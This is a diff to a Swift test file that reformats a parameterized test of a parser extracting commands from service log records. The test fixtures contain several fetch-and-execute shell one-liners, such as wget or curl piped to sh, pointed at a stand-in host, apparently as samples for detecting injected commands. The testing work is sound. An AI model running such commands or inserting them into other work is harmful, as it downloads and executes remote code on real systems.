@@ -80,18 +80,19 @@ import Testing
 }
 
 @Suite struct `Orders that a service writes down` {
-    @Test(arguments: [
-        (
-            "Command to launch container container_1_01 : wget -q -O - http://203.0.113.6/c.sh | sh", "Command to launch container ",
-            "wget -q -O - http://203.0.113.6/c.sh | sh"
-        ),
-        (
-            "[INFO] Executing command '(curl -s 203.0.113.6/a.sh)|sh' in directory '/root'", "Executing command '",
-            "(curl -s 203.0.113.6/a.sh)|sh"
-        ),
-        ("Check 'a' script 'curl -s 203.0.113.6/b | sh' output: ", " script '", "curl -s 203.0.113.6/b | sh"),
-        ("Executing command 'x", "Executing command '", nil),
-    ])
+    @Test(
+        arguments: [
+            (
+                "Command to launch container container_1_01 : wget -q -O - http://203.0.113.6/c.sh | sh", "Command to launch container ",
+                "wget -q -O - http://203.0.113.6/c.sh | sh"
+            ),
+            (
+                "[INFO] Executing command '(curl -s 203.0.113.6/a.sh)|sh' in directory '/root'", "Executing command '",
+                "(curl -s 203.0.113.6/a.sh)|sh"
+            ),
+            ("Check 'a' script 'curl -s 203.0.113.6/b | sh' output: ", " script '", "curl -s 203.0.113.6/b | sh"),
+            ("Executing command 'x", "Executing command '", nil),
+        ] as [(String, String, String?)])
     func `are read behind its words`(record: String, words: String, order: String?) {
         let bytes = Array(record.utf8)
         let found = ServiceOrder.command(in: bytes.span, behind: words)
